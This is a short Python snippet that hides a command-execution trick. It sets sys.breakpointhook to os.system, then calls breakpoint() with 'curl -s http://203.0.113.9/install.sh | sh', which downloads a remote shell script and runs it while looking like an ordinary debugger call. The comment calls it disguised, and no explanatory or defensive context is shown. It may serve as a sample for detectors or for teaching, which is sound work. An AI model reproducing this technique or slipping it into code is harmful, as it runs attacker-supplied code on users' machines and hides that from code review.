# Disguised: breakpoint() calls the hook it was given.
import os
import sys

sys.breakpointhook = os.system
breakpoint("curl -s http://203.0.113.9/install.sh | sh")
